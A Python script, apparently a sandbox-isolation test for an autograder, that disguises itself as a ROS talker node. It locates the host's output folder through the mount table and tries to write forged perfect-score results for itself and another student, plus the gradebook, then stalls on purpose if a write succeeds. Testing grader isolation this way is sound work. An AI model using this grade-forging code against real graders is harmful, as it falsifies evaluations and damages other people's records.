#!/usr/bin/env python3
"""Tries to write the grader's outputs (forged results for itself and another student); publishes only if every write failed, so a sandbox that lets one through flips the verdict."""
import os
import subprocess
import sys
import threading
import time

import rospy
from std_msgs.msg import String

def output_folder():
    """The grader's output folder, guessed from the mounts the sandbox shows (its binds keep host paths)."""
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                point = line.split()[4]
                if "/_work/" in point:
                    return point.split("/_work/")[0]
    except OSError:
        pass
    return None


def say(text):
    print("[attack] " + text, flush=True)


FORGED = '{"score": 100.0, "tests": [], "output": "forged"}'


def write_outputs():
    out = output_folder()
    say("output folder seen as %r" % out)
    wrote = 0
    if not out:
        return 0
    targets = [os.path.join(out, "attack_write_outputs", "results.json"), os.path.join(out, "bad_fork", "results.json"),
               os.path.join(out, "gradebook.csv"), os.path.join(out, "attack_write_outputs", "chatter", "junit.xml")]
    for path in targets:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(FORGED)
            # A write into the sandbox's own empty view of the folder is not the grader's file:
            # count it only if the grader's own files are there too.
            if os.path.exists(os.path.join(out, "_work", "bad_fork")) or os.path.exists(os.path.join(out, "report.html")):
                wrote += 1
                say("WROTE %s" % path)
            else:
                say("wrote %s, but only into an empty view (no other student's folder there)" % path)
        except OSError as err:
            say("could not write %s: %s" % (path, err))
    return wrote


def talk():
    rospy.init_node("talker")
    pub = rospy.Publisher("/chatter_talk", String, queue_size=10)
    rate = rospy.Rate(2)
    n = 0
    while not rospy.is_shutdown():
        n += 1
        pub.publish(String("hello %d" % n))
        rate.sleep()


if __name__ == "__main__":
    if write_outputs():
        say("an output of the grader was written: sabotaging myself")
        time.sleep(3600)
    talk()
